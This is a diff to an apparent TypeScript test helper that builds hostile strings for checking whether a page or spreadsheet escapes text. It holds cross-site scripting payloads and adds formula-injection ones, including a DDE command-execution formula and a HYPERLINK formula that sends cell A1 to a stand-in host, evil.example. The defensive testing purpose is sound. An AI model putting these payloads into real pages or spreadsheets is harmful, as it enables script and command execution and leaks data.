@@ -1,4 +1,5 @@
-/** Texts that mean harm where they are shown as anything but texts. What of them runs calls `ran` with its number. */
+/** Texts that mean harm where they are shown as anything but texts, on a page or by a spreadsheet. What of them runs on a page calls
+ *  `ran` with its number. */
 const shapes: readonly ((n: number) => string)[] = [
   (n) => `<img src=x onerror=ran(${n})>`,
   (n) => `"><svg onload=ran(${n})>`,
@@ -16,6 +17,12 @@ const shapes: readonly ((n: number) => string)[] = [
   (n) => `" autofocus onfocus="ran(${n})" style="position:fixed;inset:0`,
   (n) => `<base href=//evil.example><meta http-equiv=refresh content="0;url=javascript:ran(${n})">`,
   (n) => `<template><slot onslotchange=ran(${n})></template><!--`,
+  (n) => `=ran(${n})`,
+  (n) => `@ran(${n})`,
+  (n) => `+1+ran(${n})`,
+  (n) => `-1+ran(${n})`,
+  (n) => `=HYPERLINK("http://evil.example/?"&A1,"ran(${n})")`,
+  (n) => `=cmd|'/C ran(${n})'!A0`,
 ];
 
 /** Texts with a number of their own each, by which they are known again. */
@@ -39,7 +46,10 @@ export function hostileTexts(): HostileTexts {
       const n = made.length;
       const all = shapes.map((shape) => shape(n));
       const fitting = all.filter(({ length }) => length <= most);
-      const text = most >= longEnough ? all.join(' ') : fitting[n % fitting.length];
+      // What a spreadsheet takes for more than a text does harm at the beginning alone: each kind stands there in its turn.
+      const first = n % shapes.length;
+      const text =
+        most >= longEnough ? [...all.slice(first), ...all.slice(0, first)].join(' ') : fitting[n % fitting.length];
       if (text === undefined) throw new Error(`no text of so few characters: ${most}`);
       made.push(text);
       return text;
